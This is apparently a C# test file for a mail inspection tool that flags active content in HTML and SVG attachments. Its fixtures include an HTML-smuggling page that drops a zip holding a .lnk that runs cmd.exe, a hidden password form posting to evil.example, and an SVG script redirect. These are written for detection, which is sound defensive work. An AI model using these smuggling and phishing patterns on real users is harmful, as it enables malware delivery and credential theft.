using System.Text;
using Weir.Mail.Tests.Support;
using static Weir.Mail.Tests.Archives.ArchiveTests;

namespace Weir.Mail.Tests.Inspection.Readers;

public sealed class ActivePageTests
{
    [Fact]
    public void A_page_that_builds_a_file_is_told_and_the_file_is_read()
    {
        var zip = Zip(("run.lnk", ActiveFiles.Lnk("cmd.exe", "/c calc")));
        var page = Encoding.UTF8.GetBytes($"<html><script>var d=atob('{Convert.ToBase64String(zip)}');var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click();</script></html>");

        var reports = Inspected.File("a.html", page);

        Assert.Contains(reports[0].Features, feature => feature.Name == "html-smuggling" && feature.Detail.Contains("invoice.zip", StringComparison.Ordinal));
        Assert.Equal(["run.lnk"], reports.Single(report => report.Inside == "invoice.zip").Members.Select(member => member.Path));
        Assert.Contains(reports, report => report.FileType == "lnk");
    }

    [Fact]
    public void A_page_that_writes_a_hidden_page_is_told_and_its_links_are_listed()
    {
        var hidden = Convert.ToBase64String(Encoding.UTF8.GetBytes("<form action='https://evil.example/post'><input type=password></form> https://evil.example/next and more"));
        var page = Encoding.UTF8.GetBytes($"<html><script>document.write(unescape(atob('{hidden}')))</script></html>");

        Assert.Equal("html-hidden-page", Inspected.Features("a.html", page));
        Assert.Contains("https://evil.example/post", Inspected.Urls("a.html", page));
    }

    [Fact]
    public void A_picture_that_runs_a_script_is_told() =>
        Assert.Equal("svg-script", Inspected.Features("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://evil.example/'</script></svg>"u8.ToArray()));

    [Theory]
    [InlineData("a.html", "<html><body><a href='https://x.example/'>a page</a><img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='></body></html>")]
    [InlineData("a.html", "<html><script>console.log(document.title)</script></html>")]
    [InlineData("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>")]
    public void An_ordinary_page_or_picture_says_nothing(string name, string text) => Assert.Equal("", Inspected.Features(name, Encoding.UTF8.GetBytes(text)));
}
